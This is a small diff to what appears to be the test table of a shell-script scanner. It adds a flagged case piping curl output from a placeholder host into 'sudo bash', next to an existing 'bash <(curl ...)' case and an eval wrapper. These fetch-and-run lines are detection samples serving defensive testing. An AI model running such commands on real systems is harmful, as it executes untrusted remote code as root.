@@ -107,6 +107,7 @@ FLAGGED = {
     "sourced path from a variable": ('. "$LIB_DIR"\n', 1, "not found next to"),
     "evaluator nobody calls": ('run() { eval "$1"; }\n', 1, "nothing here calls it"),
     "script downloaded and run": ("bash <(curl -s https://example.invalid/x)\n", 1, "runs <(curl"),
+    "script piped into a shell": ("curl -s https://example.invalid/x | sudo bash\n", 1, "pipe"),
     "script run that is not here": ("./missing-step.sh --all\n", 1, "runs ./missing-step.sh"),
 }
 
